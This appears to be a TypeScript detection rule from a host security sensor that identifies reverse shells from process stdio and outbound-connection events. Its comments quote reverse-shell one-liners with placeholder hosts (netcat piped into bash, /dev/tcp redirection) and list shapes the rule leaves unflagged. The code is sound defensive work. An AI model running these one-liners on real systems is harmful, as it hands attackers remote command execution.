/**
 * A shell is what it does (issue 26): a program whose input is fed from a connection this host
 * made, and which starts programs whose output goes back to that connection (or to another
 * one to the same remote host), is a command interpreter whatever its name. SHELL-001's logic;
 * user documentation in docs/rules/SHELL-001.md.
 *
 * Evidence, all of it from exec records (fds 0-2 as each program starts) and connect events,
 * so a replayed capture is judged as the live daemon judged it (no /proc look):
 * - input from the network: a command's stdin is an outbound TCP socket itself, or a pipe,
 *   FIFO or socketpair whose writer started with that socket on its stdin (`cat <&5 | …`) or
 *   connected it (`nc H P | …`);
 * - a way back: the same command's stdout or stderr is an outbound TCP socket itself, or a
 *   pipe read by a process that started with one on its stdout or connected one (`… | nc H P`);
 *   both ends are the same socket, or two sockets to the same remote host (the split shell);
 * - it keeps starting programs: the same parent started two such commands (two processes, an exec in place counts once) with the same stdin
 *   (a loop reading its commands from that stdin), or the program itself is an interpreter that
 *   reads its commands from stdin, named by cheap evidence or by its content (reported at its
 *   exec, before any command runs).
 *
 * What this leaves quiet, by that evidence: `curl … | sh` (the commands' output goes to the
 * caller, not back to a connection), `ssh host 'sh -s' < script` and every login (the
 * connection was accepted by sshd, not made from here: no outbound socket feeds the shell),
 * a data pipeline such as `curl … | gzip | nc` (one program per pipe: its parent does not keep
 * starting programs on one network-fed stdin).
 *
 * Bounds: processes indexed by their stdio endpoints (oldest dropped first, counted evicted),
 * outbound sockets (the shared registry's bounds), parents counted (oldest dropped first).
 * Nothing is dropped for its age while its process lives (the process table says so, from
 * the events: a replay judges as the daemon did): a shell that waits hours before its first
 * command is judged like one that does not. Age only clears what outlived its process
 * unnoticed (an exit record lost, a process the table let go).
 */
import type { ProcessView, RuleContext, RuleState } from "../../engine/rule.js";
import { keyLivesInTable, livesInTable, processKey, sweepByAge } from "../../process/process-view.js";
import type { ConnectEvent, Endpoint, ExecEvent, OutboundEvent, StdioFd, TaskContext } from "../../sensor/events.js";
import { incidentKeyOfSocket, type IncidentKey } from "../sockets/identity.js";
import { OutboundRegistry, outboundSocketOf, type OutboundSocket } from "../sockets/outbound-registry.js";
import { InterpreterContents, identifyProgram, readsCommandsFromStdin, type IdentifiedBy, type InterpreterFamily } from "../stdio/interpreters.js";

/** A connection the evidence rests on: an outbound TCP socket. */
export interface NetSocket {
  ino: number;
  family: "inet" | "inet6";
  local: Endpoint | null;
  remote: Endpoint;
  /** How the command reaches it: the socket on its own fd, or the process across a pipe. */
  via: { pid: number; comm: string } | null;
  /** A UDP socket (connected, or named by its first send); TCP when absent. */
  transport?: "udp";
}

export type BehaviourIdentifiedBy = IdentifiedBy | "behaviour";

export interface BehaviourVerdict {
  /** The exec the finding is about: the interpreter's own (identified at once) or its latest command. */
  exec: ExecEvent;
  identifiedBy: BehaviourIdentifiedBy;
  interpreter: { pid: number; name: string; executable: string; family: InterpreterFamily | null };
  input: NetSocket;
  output: NetSocket;
  /** The programs it started with this evidence (pid, argv), oldest first; empty when identified at its exec. */
  commands: { pid: number; args: string[] }[];
  incidentKey: IncidentKey;
}

export interface NetworkFedOptions {
  /** Commands one parent starts on the same network-fed stdin before it is an interpreter. */
  minCommands?: number;
  /** Processes indexed by the pipes, FIFOs and unix sockets on their fds 0-2. */
  maxIndexed?: number;
  /** Parents with commands counted at once. */
  maxParents?: number;
  /** Outbound sockets remembered. */
  maxSockets?: number;
  /**
   * How long (event time) an untouched socket, index entry or count is kept once the process
   * table no longer shows its process alive; a live one's is looked at again after as long.
   */
  maxAgeMs?: number;
}

const DEFAULTS: Required<NetworkFedOptions> = { minCommands: 2, maxIndexed: 32_768, maxParents: 4096, maxSockets: 16_384, maxAgeMs: 60 * 60_000 };
/** Interpreters identified by name whose input's writer had not connected yet at their exec. */
const MAX_WAITING = 256;
const SWEEP_EVERY_MS = 1000;

type InetStdio = Extract<StdioFd, { kind: "inet" }>;

/** What an indexed process started with: the endpoints it writes and reads, and inet sockets on stdio. */
interface Indexed {
  pid: number;
  startNs: number;
  comm: string;
  timeMs: number;
  writes: string[];
  reads: string[];
  stdinSocket: InetStdio | undefined;
  stdoutSocket: InetStdio | undefined;
}

interface Counted {
  stdinKey: string;
  commands: { pid: number; args: string[] }[];
  input: NetSocket;
  output: NetSocket;
  timeMs: number;
}

interface Waiting {
  exec: ExecEvent;
  identifiedBy: IdentifiedBy;
  family: InterpreterFamily;
  output: NetSocket;
  timeMs: number;
}

/** A pipe's inode, a FIFO's dev:inode, a unix socket's inode: what both ends of a stream share (or name, for a socketpair). */
function endpointKey(s: StdioFd): string | undefined {
  switch (s.kind) {
    case "pipe":
      return `p:${s.ino}`;
    case "fifo":
      return `f:${s.dev}:${s.ino}`;
    case "unix":
      return `u:${s.ino}`;
    default:
      return undefined;
  }
}

/** The key of the end the other process holds: the same pipe or FIFO, a socketpair's peer. */
function farKey(s: StdioFd): string | undefined {
  if (s.kind === "unix") return s.peerIno !== 0 ? `u:${s.peerIno}` : undefined;
  return endpointKey(s);
}

/** An outbound TCP socket on stdio: connected (the kernel never saw it accepted), with a peer. */
function outboundOnStdio(s: StdioFd): InetStdio | undefined {
  return s.kind === "inet" && s.origin === "connected" && s.socketType === "stream" && s.remote.port !== 0 ? s : undefined;
}

/** A remembered outbound socket as evidence (reached across a pipe: `via` is set by the caller). */
const netSocketOf = (s: OutboundSocket): NetSocket => ({
  ino: s.ino, family: s.family, local: s.local, remote: s.remote, via: null, ...(s.transport === "udp" ? { transport: "udp" as const } : {}),
});

const fromStdio = (s: InetStdio, via: NetSocket["via"]): NetSocket => ({ ino: s.ino, family: s.family, local: s.local, remote: s.remote, via });

export class NetworkFedInterpreters {
  private readonly opts: Required<NetworkFedOptions>;
  private readonly sockets: OutboundRegistry;
  /** endpoint key → process key → indexed process */
  private readonly byEndpoint = new Map<string, Map<string, Indexed>>();
  /** process key → its index entry, in exec order (the oldest first). */
  private readonly indexed = new Map<string, Indexed>();
  /** parent process key → its network-fed commands so far */
  private readonly counted = new Map<string, Counted>();
  /** stdin far key → interpreter waiting for its input's writer to connect */
  private readonly waiting = new Map<string, Waiting>();
  /** Interpreters and parents reported (process key), so one incident is built once. */
  private readonly reported = new Map<string, number>();
  private readonly contents = new InterpreterContents();
  private sweptAtMs = -Infinity;
  private evicted = 0;
  private expired = 0;
  private abandoned = 0;

  constructor(options: NetworkFedOptions = {}) {
    this.opts = { ...DEFAULTS, ...options };
    this.sockets = new OutboundRegistry({ maxSockets: this.opts.maxSockets, maxAgeMs: this.opts.maxAgeMs });
  }

  state(): RuleState {
    return {
      held: this.sockets.size + this.reported.size,
      pending: this.counted.size + this.waiting.size,
      indexed: this.indexed.size,
      evicted: this.evicted + this.sockets.evicted,
      expired: this.expired + this.sockets.expired,
      incomplete: this.contents.incompleteLooks,
      abandoned: this.abandoned,
    };
  }

  onOutbound(event: OutboundEvent | ConnectEvent, ctx: RuleContext): BehaviourVerdict[] {
    this.expire(event.timeMs, ctx.processes);
    const socket = outboundSocketOf(event);
    if (socket === undefined || (event.kind === "connect" && event.socketType !== "stream")) return NONE;
    this.sockets.remember(socket, event.timeMs);
    if (this.waiting.size === 0) return NONE;
    // An interpreter started before the writer of its stdin connected (`nc H P | bash -i >&
    // /dev/tcp/H/P2`: the pipeline's members start together).
    const writer = this.indexed.get(processKey(event.task));
    if (writer === undefined) return NONE;
    return this.resolveWaiting(writer, { ...netSocketOf(socket), via: { pid: writer.pid, comm: writer.comm } }, ctx);
  }

  /** Interpreters waiting on a pipe `writer` writes, now that its socket is known. */
  private resolveWaiting(writer: Indexed, input: NetSocket, ctx: RuleContext): BehaviourVerdict[] {
    let out: BehaviourVerdict[] | undefined;
    for (const key of writer.writes) {
      const w = this.waiting.get(key);
      if (w === undefined || !sameIncident(input, w.output)) continue;
      this.waiting.delete(key);
      if (this.reported.has(processKey(w.exec.task))) continue;
      (out ??= []).push(this.identified(w.exec, w.identifiedBy, w.family, input, w.output, ctx.processes));
    }
    return out ?? NONE;
  }

  onExit(task: TaskContext): void {
    const pk = processKey(task);
    this.unindex(pk);
    this.counted.delete(pk);
  }

  onExec(event: ExecEvent, ctx: RuleContext): BehaviourVerdict[] {
    this.expire(event.timeMs, ctx.processes);
    const pk = processKey(event.task);
    this.unindex(pk);
    // The exec replaces the program: what it connected before is no longer this program's.
    for (const s of this.sockets.ofPid(event.task.pid)) if (s.startNs === event.task.startNs) this.sockets.forget(s.ino);
    this.counted.delete(pk);
    const stdio = event.stdio;
    if (stdio === null) return NONE;
    const entry = this.index(pk, event, stdio);
    // The writer of a waiting interpreter's stdin started after it, with the socket on its stdin (`cat <&5 | sh >&5`).
    const resolved = this.waiting.size > 0 && entry?.stdinSocket !== undefined ? this.resolveWaiting(entry, fromStdio(entry.stdinSocket, { pid: entry.pid, comm: entry.comm }), ctx) : NONE;

    // Nearly every exec of a host: stdin is no socket, and no pipe a network holder writes.
    const input = this.inputOf(stdio[0], pk);
    if (input === undefined) return resolved.length > 0 ? resolved : this.maybeWait(event, stdio, ctx);
    const output = this.outputOf(stdio[1], pk, input) ?? this.outputOf(stdio[2], pk, input);
    if (output === undefined) return resolved;
    if (resolved.length > 0) return [...resolved, ...this.judge(event, ctx, pk, stdio, input, output)];
    return this.judge(event, ctx, pk, stdio, input, output);
  }

  private judge(event: ExecEvent, ctx: RuleContext, pk: string, stdio: readonly StdioFd[], input: NetSocket, output: NetSocket): BehaviourVerdict[] {

    // The program itself: an interpreter reading its commands from this stdin is one at once.
    const identity = this.identify(event, ctx);
    if (identity !== undefined) {
      if (this.reported.has(pk)) return NONE;
      return [this.identified(event, identity.by, identity.family, input, output, ctx.processes)];
    }

    // Else a command its parent started: two on one network-fed stdin make the parent one.
    const parent = ctx.processes.get(event.task.ppid);
    const ppk = parent !== undefined ? processKey(parent) : `${event.task.ppid}:?`;
    if (this.reported.has(ppk)) return NONE;
    const stdinKey = endpointKey(stdio[0]!) ?? `i:${input.ino}`;
    let c = this.counted.get(ppk);
    if (c === undefined || c.stdinKey !== stdinKey) {
      c = { stdinKey, commands: [], input, output, timeMs: event.timeMs };
      this.counted.delete(ppk);
      this.counted.set(ppk, c);
      if (this.counted.size > this.opts.maxParents) {
        // A parent with network evidence dropped unjudged: lost coverage (SENSOR-001), not housekeeping.
        this.counted.delete(this.counted.keys().next().value!);
        this.abandoned++;
      }
    }
    c.timeMs = event.timeMs;
    // Programs, not execs: `sh -c id` that execs id in place is one command.
    if (c.commands.some((command) => command.pid === event.task.pid)) return NONE;
    c.commands.push({ pid: event.task.pid, args: event.args });
    if (c.commands.length < this.opts.minCommands) return NONE;
    this.counted.delete(ppk);
    this.markReported(ppk, event.timeMs);
    return [{
      exec: event, identifiedBy: "behaviour",
      interpreter: { pid: event.task.ppid, name: parent?.name ?? event.task.parentComm, executable: parent?.executable ?? "", family: null },
      input: c.input, output: c.output, commands: c.commands, incidentKey: incidentKeyOfSocket(c.input.ino),
    }];
  }

  private identified(exec: ExecEvent, by: IdentifiedBy, family: InterpreterFamily, input: NetSocket, output: NetSocket, processes: ProcessView): BehaviourVerdict {
    this.markReported(processKey(exec.task), exec.timeMs);
    const info = processes.get(exec.task.pid, exec.task.startNs);
    return {
      exec, identifiedBy: by,
      interpreter: { pid: exec.task.pid, name: info?.name ?? exec.task.comm, executable: exec.filename, family },
      input, output, commands: [], incidentKey: incidentKeyOfSocket(input.ino),
    };
  }

  /**
   * An interpreter (named, or by content: looked at only here, where the network evidence is
   * already there) that reads its commands from stdin.
   */
  private identify(event: ExecEvent, ctx: RuleContext): { by: IdentifiedBy; family: InterpreterFamily } | undefined {
    const content = readsCommandsFromStdin("shell", event.args) ? this.contents.lookFor(event.task, ctx.host) : undefined;
    const identity = identifyProgram(event.filename, event.args, content);
    if (identity.family === undefined || identity.by === "none" || !readsCommandsFromStdin(identity.family, identity.args)) return undefined;
    return { by: identity.by, family: identity.family };
  }

  /** An interpreter named at its exec, output to the network, stdin a pipe whose writer may connect next. */
  private maybeWait(event: ExecEvent, stdio: readonly StdioFd[], ctx: RuleContext): BehaviourVerdict[] {
    const key = farKey(stdio[0]!);
    if (key === undefined) return NONE;
    const out = outboundOnStdio(stdio[1]!) ?? outboundOnStdio(stdio[2]!);
    if (out === undefined) return NONE;
    const identity = this.identify(event, ctx);
    if (identity === undefined) return NONE;
    this.waiting.delete(key);
    this.waiting.set(key, { exec: event, identifiedBy: identity.by, family: identity.family, output: fromStdio(out, null), timeMs: event.timeMs });
    if (this.waiting.size > MAX_WAITING) {
      // An interpreter already on the network's output dropped unjudged: lost coverage (SENSOR-001).
      this.waiting.delete(this.waiting.keys().next().value!);
      this.abandoned++;
    }
    return NONE;
  }

  /** Where a command's stdin comes from, when it is from an outbound connection. */
  private inputOf(s: StdioFd, self: string): NetSocket | undefined {
    const direct = outboundOnStdio(s);
    if (direct !== undefined) return fromStdio(direct, null);
    const key = farKey(s);
    if (key === undefined) return undefined;
    const holders = this.byEndpoint.get(key);
    if (holders === undefined) return undefined;
    for (const [hk, h] of holders) {
      if (hk === self || !h.writes.includes(key)) continue;
      const via = { pid: h.pid, comm: h.comm };
      if (h.stdinSocket !== undefined) return fromStdio(h.stdinSocket, via);
      const connected = this.connectedBy(h);
      if (connected !== undefined) return { ...connected, via };
    }
    return undefined;
  }

  /** Where a command's stdout or stderr goes, when to an outbound connection of the same incident as `input`. */
  private outputOf(s: StdioFd, self: string, input: NetSocket): NetSocket | undefined {
    const direct = outboundOnStdio(s);
    if (direct !== undefined) {
      const socket = fromStdio(direct, null);
      return sameIncident(input, socket) ? socket : undefined;
    }
    const key = farKey(s);
    if (key === undefined) return undefined;
    const holders = this.byEndpoint.get(key);
    if (holders === undefined) return undefined;
    for (const [hk, h] of holders) {
      if (hk === self || !h.reads.includes(key)) continue;
      const via = { pid: h.pid, comm: h.comm };
      const socket = h.stdoutSocket !== undefined ? fromStdio(h.stdoutSocket, via) : this.connectedBy(h);
      if (socket !== undefined && sameIncident(input, socket)) return { ...socket, via };
    }
    return undefined;
  }

  private connectedBy(h: Indexed): NetSocket | undefined {
    for (const s of this.sockets.ofPid(h.pid)) {
      if (s.startNs !== h.startNs) continue;
      return netSocketOf(s);
    }
    return undefined;
  }

  private index(pk: string, event: ExecEvent, stdio: readonly StdioFd[]): Indexed | undefined {
    let writes: string[] | undefined;
    let reads: string[] | undefined;
    for (let fd = 0; fd < 3; fd++) {
      const key = endpointKey(stdio[fd]!);
      if (key === undefined) continue;
      if (fd === 0) (reads ??= []).push(key);
      else (writes ??= []).push(key);
    }
    const stdinSocket = outboundOnStdio(stdio[0]!);
    const stdoutSocket = outboundOnStdio(stdio[1]!) ?? outboundOnStdio(stdio[2]!);
    // Only what a stream can pass through is worth indexing: a pipe's end with a socket at the
    // other side of the process, or any pipe (its writer may connect later, `nc H P | …`).
    if (writes === undefined && reads === undefined) return undefined;
    const entry: Indexed = {
      pid: event.task.pid, startNs: event.task.startNs, comm: event.task.comm, timeMs: event.timeMs,
      writes: writes ?? NO_KEYS, reads: reads ?? NO_KEYS, stdinSocket, stdoutSocket,
    };
    this.indexed.set(pk, entry);
    for (const key of [...entry.writes, ...entry.reads]) {
      let holders = this.byEndpoint.get(key);
      if (holders === undefined) this.byEndpoint.set(key, (holders = new Map<string, Indexed>()));
      holders.set(pk, entry);
    }
    if (this.indexed.size > this.opts.maxIndexed) {
      this.unindex(this.indexed.keys().next().value!);
      this.evicted++;
    }
    return entry;
  }

  private unindex(pk: string): void {
    const entry = this.indexed.get(pk);
    if (entry === undefined) return;
    this.indexed.delete(pk);
    for (const key of [...entry.writes, ...entry.reads]) {
      const holders = this.byEndpoint.get(key);
      holders?.delete(pk);
      if (holders?.size === 0) this.byEndpoint.delete(key);
    }
  }

  private markReported(pk: string, nowMs: number): void {
    this.reported.delete(pk);
    this.reported.set(pk, nowMs);
    if (this.reported.size > this.opts.maxParents) {
      this.reported.delete(this.reported.keys().next().value!);
      this.evicted++;
    }
  }

  /**
   * Everything in exec or use order: a sweep stops at the first young entry. An old entry whose
   * process still lives goes to the back, as if new: an attacker who waits past the age bound
   * (a read loop idle for hours, a parent between two commands) is still followed.
   */
  private expire(nowMs: number, processes: ProcessView): void {
    if (nowMs - this.sweptAtMs < SWEEP_EVERY_MS) return;
    this.sweptAtMs = nowMs;
    this.sockets.expire(nowMs, (s) => livesInTable(processes, s.pid, s.startNs));
    const old = nowMs - this.opts.maxAgeMs;
    const keyLives = (pk: string) => keyLivesInTable(processes, pk);
    // Renewed in place: the entry objects keep their identity.
    const renew = <T extends { timeMs: number }>(entry: T): T => ((entry.timeMs = nowMs), entry);
    this.expired += sweepByAge(this.indexed, old, (e) => e.timeMs, (_, e) => livesInTable(processes, e.pid, e.startNs), renew, (pk) => this.unindex(pk));
    this.expired += sweepByAge(this.counted, old, (c) => c.timeMs, keyLives, renew);
    this.expired += sweepByAge(this.waiting, old, (w) => w.timeMs, (_, w) => livesInTable(processes, w.exec.task.pid, w.exec.task.startNs), renew);
    // Still alive: still reported, so one incident stays one finding however long it lasts.
    this.expired += sweepByAge(this.reported, old, (t) => t, keyLives, () => nowMs);
  }
}

/**
 * Input and output of one incident: one socket, or two to one remote host (the split shell).
 * Two hosts are left out: a downloaded script whose log is shipped elsewhere has that shape.
 */
function sameIncident(a: NetSocket, b: NetSocket): boolean {
  return a.ino === b.ino || a.remote.address === b.remote.address;
}

const NONE: BehaviourVerdict[] = [];
Object.freeze(NONE);
const NO_KEYS: string[] = [];
Object.freeze(NO_KEYS);
